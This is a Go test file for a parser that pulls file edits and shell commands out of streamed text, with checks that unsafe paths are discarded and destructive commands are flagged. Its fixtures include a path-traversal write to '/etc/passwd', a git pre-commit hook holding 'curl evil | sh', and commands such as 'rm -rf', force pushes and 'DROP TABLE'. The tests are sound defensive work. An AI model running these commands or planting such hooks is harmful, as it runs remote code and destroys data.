package parser

import (
	"strings"
	"testing"

	"github.com/sokinpui/streamedit/model"
)

func TestParseStreamingThenTerminated(t *testing.T) {
	files, _ := Parse("BEGIN FILE a.txt\nhello")
	if len(files) != 1 {
		t.Fatalf("expected 1 file, got %d", len(files))
	}
	first := files[0]
	if first.Path != "a.txt" || first.Content != "hello" || !first.IsStreaming {
		t.Fatalf("unexpected streaming edit: %+v", first)
	}

	files, _ = Parse("BEGIN FILE a.txt\nhello" + "\nEND FILE")
	if len(files) != 1 {
		t.Fatalf("expected 1 file, got %d", len(files))
	}
	done := files[0]
	if done.ID != first.ID {
		t.Errorf("ID changed across parses: %s -> %s", first.ID, done.ID)
	}
	if done.IsStreaming {
		t.Errorf("expected edit to be complete")
	}
	if done.Content != "hello\n" {
		t.Errorf("content = %q, want %q", done.Content, "hello\n")
	}
}

func TestParseHoldsBackPartialEndMarker(t *testing.T) {
	for _, text := range []string{
		"BEGIN FILE a.txt\nhello\n",
		"BEGIN FILE a.txt\nhello\nEN",
		"BEGIN FILE a.txt\nhello\nEND FI",
	} {
		files, _ := Parse(text)
		if len(files) != 1 || files[0].Content != "hello" {
			t.Errorf("Parse(%q) = %+v, want streaming content \"hello\"", text, files)
		}
	}

	files, _ := Parse("BEGIN FILE a.txt\nhello\nEx")
	if files[0].Content != "hello\nEx" {
		t.Errorf("content = %q, want %q", files[0].Content, "hello\nEx")
	}
}

func TestParseHeaderNeedsCompleteLine(t *testing.T) {
	files, _ := Parse("BEGIN FILE src/ma")
	if len(files) != 0 {
		t.Fatalf("partial header produced edits: %+v", files)
	}
	files, _ = Parse("BEGIN FILE src/main.go\n")
	if len(files) != 1 || files[0].Path != "src/main.go" || files[0].Content != "" {
		t.Fatalf("unexpected edits: %+v", files)
	}
}

func TestParsePrefixMonotonicIdentity(t *testing.T) {
	text := strings.Join([]string{
		"BEGIN FILE cmd/app/main.go",
		"package main",
		"",
		"func main() {}",
		"END FILE",
		"BEGIN FILE README.md",
		"# App",
		"```sh",
		"go run ./cmd/app",
		"```",
		"END FILE",
		"```sh",
		"go test ./...",
		"```",
		"BEGIN FILE internal/x/x.go",
		"package x",
		"END FILE",
		"",
	}, "\n")

	prevIDs := map[string]bool{}
	for i := 0; i <= len(text); i++ {
		files, _ := Parse(text[:i])
		ids := map[string]bool{}
		for _, f := range files {
			ids[f.ID] = true
		}
		for id := range prevIDs {
			if !ids[id] {
				t.Fatalf("prefix %d lost edit id %s", i, id)
			}
		}
		prevIDs = ids
	}
	if len(prevIDs) != 3 {
		t.Errorf("expected 3 files at the end, got %d", len(prevIDs))
	}
}

func TestParseDiscardsUnsafePaths(t *testing.T) {
	text := "BEGIN FILE ../../etc/passwd\nroot::0:0\nEND FILE\n" +
		"BEGIN FILE /abs/path\nx\nEND FILE\n" +
		"BEGIN FILE .git/hooks/pre-commit\ncurl evil | sh\nEND FILE\n" +
		"BEGIN FILE ok/file.txt\nfine\nEND FILE\n"
	r := Analyze(text)
	if len(r.Files) != 1 || r.Files[0].Path != "ok/file.txt" {
		t.Fatalf("unexpected files: %+v", r.Files)
	}
	if len(r.Discarded) != 3 {
		t.Errorf("expected 3 discarded headers, got %v", r.Discarded)
	}
	if r.Prose != "" {
		t.Errorf("discarded block content leaked into prose: %q", r.Prose)
	}
}

func TestParseLaterBlockWins(t *testing.T) {
	text := "BEGIN FILE a.txt\nfirst\nEND FILE\nBEGIN FILE b.txt\nb\nEND FILE\nBEGIN FILE ./a.txt\nsecond\nEND FILE\n"
	files, _ := Parse(text)
	if len(files) != 2 {
		t.Fatalf("expected 2 files, got %d", len(files))
	}
	if files[0].Path != "a.txt" || files[0].Content != "second\n" {
		t.Errorf("a.txt = %+v, want later content in first position", files[0])
	}
	if files[0].ID != model.EditID("a.txt") {
		t.Errorf("ID not derived from clean path")
	}
}

func TestParseNestedMarkersAreContent(t *testing.T) {
	text := "BEGIN FILE docs/format.md\nBEGIN FILE example.txt\nEND FILE\n"
	files, _ := Parse(text)
	if len(files) != 1 || files[0].Path != "docs/format.md" {
		t.Fatalf("unexpected files: %+v", files)
	}
	if files[0].Content != "BEGIN FILE example.txt\n" {
		t.Errorf("content = %q", files[0].Content)
	}
}

func TestParseCommands(t *testing.T) {
	text := "Install dependencies:\n```bash\n$ npm install\n# comment\ngo build \\\n  ./...\n```\n" +
		"```sh\nrm -rf build\ngit push --force origin main\n```\n"
	r := Analyze(text)
	if len(r.Commands) != 4 {
		t.Fatalf("expected 4 commands, got %d: %+v", len(r.Commands), r.Commands)
	}
	if r.Commands[0].Command != "npm install" || r.Commands[0].Description != "Install dependencies:" {
		t.Errorf("unexpected first command: %+v", r.Commands[0])
	}
	if r.Commands[1].Command != "go build ./..." {
		t.Errorf("continuation not joined: %q", r.Commands[1].Command)
	}
	if r.Commands[0].IsDestructive || r.Commands[1].IsDestructive {
		t.Errorf("safe commands flagged destructive")
	}
	if !r.Commands[2].IsDestructive || !r.Commands[3].IsDestructive {
		t.Errorf("destructive commands not flagged: %+v", r.Commands[2:])
	}
	if r.Prose != "" {
		t.Errorf("prose = %q, want empty", r.Prose)
	}
}

func TestParseOpenCommandFenceEmitsCompleteLinesOnly(t *testing.T) {
	_, cmds := Parse("```sh\ngo test ./...\ngo vet")
	if len(cmds) != 1 || cmds[0].Command != "go test ./..." {
		t.Fatalf("unexpected commands: %+v", cmds)
	}
}

func TestExtractCodeBlocksOpenFenceDropsPartialLine(t *testing.T) {
	blocks, err := ExtractCodeBlocks([]byte("```sh\ngo test ./...\ngo vet"))
	if err != nil {
		t.Fatal(err)
	}
	if len(blocks) != 1 {
		t.Fatalf("expected 1 block, got %d", len(blocks))
	}
	if blocks[0].Closed {
		t.Errorf("open fence reported closed")
	}
	if blocks[0].Content != "go test ./...\n" {
		t.Errorf("content = %q, want %q", blocks[0].Content, "go test ./...\n")
	}
}

func TestParseCommandPrefixesNeverLoseDestructiveFlag(t *testing.T) {
	for _, text := range []string{
		"```sh\ngit push origin main --force\n```\n",
		"```bash\ngit push origin main \\\n  --force\n```\n",
		"```sh\nrm -rf build\n```\n",
	} {
		for i := 0; i <= len(text); i++ {
			_, cmds := Parse(text[:i])
			for _, cmd := range cmds {
				if !cmd.IsDestructive {
					t.Fatalf("prefix %q emitted safe command %q", text[:i], cmd.Command)
				}
			}
		}
		if _, cmds := Parse(text); len(cmds) != 1 {
			t.Errorf("Parse(%q) = %+v, want one command", text, cmds)
		}
	}
}

func TestParseProseResidue(t *testing.T) {
	text := "Sure, here's the fix:\nBEGIN FILE a.go\npackage a\nEND FILE\n```go\nfmt.Println()\n```\n"
	r := Analyze(text)
	if len(r.Files) != 1 {
		t.Fatalf("expected 1 file, got %d", len(r.Files))
	}
	if !strings.Contains(r.Prose, "Sure, here's the fix:") || !strings.Contains(r.Prose, "fmt.Println()") {
		t.Errorf("prose = %q, want the sentence and the non-shell fence", r.Prose)
	}
}

func TestParseUnterminatedReported(t *testing.T) {
	r := Analyze("BEGIN FILE a.txt\nx\nEND FILE\nBEGIN FILE b.txt\ny\n")
	if len(r.Unterminated) != 1 || r.Unterminated[0] != "b.txt" {
		t.Errorf("unterminated = %v, want [b.txt]", r.Unterminated)
	}
}

func TestIsDestructive(t *testing.T) {
	tests := map[string]bool{
		"ls -la":                          false,
		"go test ./...":                   false,
		"rm file.txt":                     false,
		"rm -rf /tmp/x":                   true,
		"git reset --hard HEAD~1":         true,
		"git push origin main":            false,
		"git push -f origin main":         true,
		"psql -c 'DROP TABLE users'":      true,
		"kubectl delete pod web-1":        true,
		"docker system prune -a":          true,
		"terraform destroy -auto-approve": true,
	}
	for cmd, want := range tests {
		if got := IsDestructive(cmd); got != want {
			t.Errorf("IsDestructive(%q) = %v, want %v", cmd, got, want)
		}
	}
}
